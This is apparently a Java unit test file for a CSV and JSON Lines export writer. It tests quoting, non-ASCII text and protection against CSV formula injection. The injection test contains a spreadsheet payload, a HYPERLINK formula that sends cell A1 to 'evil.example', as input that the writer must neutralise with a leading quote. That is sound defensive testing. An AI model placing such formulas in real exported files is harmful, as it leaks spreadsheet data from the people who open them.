package org.stancewatch.app.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class TableWriterTest {

    record Row(String id, LocalDate day, String text, long count, Double share, List<String> tags) {}

    /** Everything a spreadsheet chokes on when CSV is written by hand. */
    static final String HOSTILE = "Maliki said: \"the army, not the militias\",\r\nthen left.\nÇa va — 伊拉克 ✓";

    static final List<Row> ROWS = List.of(
            new Row("a1", LocalDate.of(2017, 7, 9), HOSTILE, 3, 0.25, List.of("x", "y,\"z\"")),
            new Row("a,2", null, "", 0, null, List.of()),
            new Row("a3", LocalDate.of(2017, 7, 10), " leading and trailing spaces ", -1, 1.0, List.of("ü")));

    private static String write(ExportFormat format) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableWriter.write(Row.class, ROWS, format, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void csvReadsBackThroughAStrictRfc4180Parser_commasQuotesNewlinesAndNonAsciiIntact() throws Exception {
        String csv = write(ExportFormat.CSV);
        // RFC 4180 as a strict reader sees it: first record is the header, quotes doubled, CRLF records.
        CSVFormat strict = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true)
                .setAllowMissingColumnNames(false).setIgnoreSurroundingSpaces(false).setTrim(false).get();
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), strict)) {
            assertEquals(List.of("id", "day", "text", "count", "share", "tags"), parser.getHeaderNames());
            List<CSVRecord> records = parser.getRecords();
            assertEquals(3, records.size());
            CSVRecord first = records.get(0);
            assertEquals("a1", first.get("id"));
            assertEquals("2017-07-09", first.get("day"));
            assertEquals(HOSTILE, first.get("text"), "the field comes back byte for byte, CR LF inside it too");
            assertEquals("3", first.get("count"));
            assertEquals("0.25", first.get("share"));
            assertEquals(List.of("x", "y,\"z\""), List.of(new ObjectMapper().readValue(first.get("tags"), String[].class)),
                    "a list cell is its JSON text");
            CSVRecord second = records.get(1);
            assertEquals("a,2", second.get("id"));
            assertEquals("", second.get("day"), "null is an empty field");
            assertEquals("", second.get("share"));
            assertEquals("[]", second.get("tags"));
            assertEquals(" leading and trailing spaces ", records.get(2).get("text"));
            assertEquals(6, records.get(2).size());
        }
        // The wire form itself: header then CRLF-terminated records, embedded quotes doubled.
        assertTrue(csv.startsWith("id,day,text,count,share,tags\r\na1,2017-07-09,\"Maliki said: \"\"the army, not the militias\"\",\r\n"), csv);
        assertTrue(csv.endsWith("\r\n"));
        assertTrue(csv.contains("\"a,2\",,\"\",0,,[]\r\n") || csv.contains("\"a,2\",,,0,,[]\r\n"), csv);
    }

    @Test
    void jsonLinesHaveOneObjectPerLineWithTheSameFieldsInTheSameOrder() throws Exception {
        String jsonl = write(ExportFormat.JSONL);
        String[] lines = jsonl.split("\n");
        assertEquals(3, lines.length);
        assertTrue(jsonl.endsWith("\n"));
        ObjectMapper json = new ObjectMapper();
        JsonNode first = json.readTree(lines[0]);
        List<String> names = new java.util.ArrayList<>();
        first.fieldNames().forEachRemaining(names::add);
        assertEquals(TableWriter.columns(Row.class), names);
        assertEquals(HOSTILE, first.path("text").asText());
        assertEquals("2017-07-09", first.path("day").asText());
        assertTrue(json.readTree(lines[1]).path("day").isNull());
    }

    @Test
    void formatsParseCaseInsensitivelyAndRejectOthers() {
        assertEquals(ExportFormat.CSV, ExportFormat.parse(" CSV ").orElseThrow());
        assertEquals(ExportFormat.JSONL, ExportFormat.parse("jsonl").orElseThrow());
        assertTrue(ExportFormat.parse("xlsx").isEmpty());
        assertTrue(ExportFormat.parse(null).isEmpty());
    }

    /** OWASP CSV injection: text starting with = + - @ TAB CR comes back with a leading quote; numbers stay numbers. */
    @Test
    void formulaLikeTextIsNeutralisedWithAQuote_numbersAndOtherTextAreNot() throws Exception {
        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)",
                "\tcmd", "\r=1", "a=b", "'quoted", "");
        List<Row> rows = new java.util.ArrayList<>();
        for (String text : hostile) {
            rows.add(new Row(text, LocalDate.of(2017, 7, 9), text, -3, -0.25, List.of("=x")));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableWriter.write(Row.class, rows, ExportFormat.CSV, out);
        try (CSVParser parser = CSVParser.parse(new StringReader(out.toString(StandardCharsets.UTF_8)),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            List<CSVRecord> records = parser.getRecords();
            assertEquals(hostile.size(), records.size());
            List<String> expected = List.of("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
                    "'\tcmd", "'\r=1", "a=b", "'quoted", "");
            for (int i = 0; i < records.size(); i++) {
                assertEquals(expected.get(i), records.get(i).get("id"), "id cell " + i);
                assertEquals(expected.get(i), records.get(i).get("text"), "text cell " + i);
                assertEquals("-3", records.get(i).get("count"), "a negative number is a number");
                assertEquals("-0.25", records.get(i).get("share"));
                assertEquals("[\"=x\"]", records.get(i).get("tags"), "JSON text starts with [ and is left alone");
            }
        }
        // JSON Lines is data for programs, not a spreadsheet: unchanged.
        ByteArrayOutputStream jsonl = new ByteArrayOutputStream();
        TableWriter.write(Row.class, rows.subList(0, 1), ExportFormat.JSONL, jsonl);
        assertEquals(hostile.get(0), new ObjectMapper().readTree(jsonl.toByteArray()).path("text").asText());
    }
}
